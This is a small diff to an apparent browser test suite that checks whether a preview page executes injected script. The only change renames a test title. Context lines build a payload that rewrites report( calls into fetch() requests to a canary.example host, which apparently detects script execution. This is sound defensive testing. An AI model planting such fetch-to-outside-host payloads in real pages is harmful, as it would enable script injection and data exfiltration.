@@ -20,7 +20,7 @@ const EVIL =
 const CANARY = 'http://canary.example/';
 const RUN = EVIL.replaceAll('report(', `fetch("${CANARY}"+`).replaceAll('")', '")');
 
-describe('the page of a preview, in a real browser', () => {
+describe('fault 51: the page of a preview, in a real browser', () => {
   const newPage = useBrowser();
 
   /** Opens a page at the API's own address that shows the preview, and notes what scripts ask for. */
